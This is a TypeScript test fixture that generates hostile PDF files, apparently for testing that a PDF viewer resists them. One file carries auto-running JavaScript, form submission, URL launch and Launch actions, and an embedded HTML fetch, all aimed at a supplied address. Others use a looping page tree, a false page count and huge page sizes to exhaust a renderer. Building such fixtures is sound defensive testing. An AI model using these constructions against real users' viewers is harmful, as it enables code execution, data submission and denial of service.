/** Writes a PDF of these objects, the first of which is its catalog, as a program would that means harm. */
function pdfOf(objects: readonly string[]): Buffer {
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const offset = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  text += `xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<</Size ${size} /Root 1 0 R>>\n`;
  return Buffer.from(`${text}startxref\n${text.lastIndexOf('xref\n0 ')}\n%%EOF\n`, 'latin1');
}

const stream = (content: string, entries = '') =>
  `<<${entries} /Length ${content.length}>>\nstream\n${content}\nendstream`;
const words = (text: string, size = 24) => stream(`BT /F1 ${size} Tf ${size} ${10 * size} Td (${text}) Tj ET`);
const page = (box: string, content: number, more = '') =>
  `<</Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents ${content} 0 R
    /Resources <</Font <</F1 <</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>>>>> ${more}>>`;
const a4 = '0 0 595 842';

/** PDFs that want to run something, to load something from `address`, or to keep a browser busy; each says "harmless". */
export function hostilePdfs(address: string): Record<string, Buffer> {
  const script = `/S /JavaScript /JS (globalThis.harmed = 1; app.alert\\('harmed'\\); this.submitForm\\('${address}'\\); app.launchURL\\('${address}', true\\))`;
  const whole = '/Rect [0 0 595 842] /Subtype /Link /Border [0 0 0]';
  return {
    'that acts': pdfOf([
      `<</Type /Catalog /Pages 2 0 R /OpenAction <<${script}>> /AA <</WC <<${script}>>>>
        /Names <</JavaScript <</Names [(a) <<${script}>>]>> /EmbeddedFiles <</Names [(run.html) 6 0 R]>>>>>>`,
      '<</Type /Pages /Kids [3 0 R] /Count 1>>',
      page(a4, 4, `/AA <</O <<${script}>>>> /Annots [5 0 R 7 0 R 8 0 R]`),
      words('harmless'),
      `<<${whole} /A <</S /URI /URI (${address}link)>>>>`,
      `<</Type /Filespec /F (run.html) /EF <</F 9 0 R>>>>`,
      `<<${whole} /A <</S /Launch /F (${address}launch)>>>>`,
      `<</Subtype /Widget /FT /Btn /T (b) /Rect [0 0 595 842] /A <<${script}>> /AA <</E <<${script}>>>>>>`,
      stream(`<script>fetch("${address}file")</script>`, '/Type /EmbeddedFile /Subtype /text#2Fhtml'),
    ]),
    'whose pages loop': pdfOf([
      '<</Type /Catalog /Pages 2 0 R>>',
      '<</Type /Pages /Kids [3 0 R 2 0 R 5 0 R] /Count 3>>',
      page(a4, 4),
      words('harmless'),
      '<</Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1>>',
    ]),
    'that claims to have millions of pages': pdfOf([
      '<</Type /Catalog /Pages 2 0 R>>',
      '<</Type /Pages /Kids [3 0 R 5 0 R 6 0 R] /Count 90000001>>',
      page(a4, 4),
      words('harmless'),
      '<</Type /Pages /Parent 2 0 R /Kids [] /Count 89999999>>',
      page(a4, 4),
    ]),
    'of 100,000 points': pdfOf([
      '<</Type /Catalog /Pages 2 0 R>>',
      '<</Type /Pages /Kids [3 0 R 5 0 R] /Count 2>>',
      page('0 0 100000 100000', 4),
      words('harmless', 4000),
      page('0 0 1 100000', 4),
    ]),
  };
}
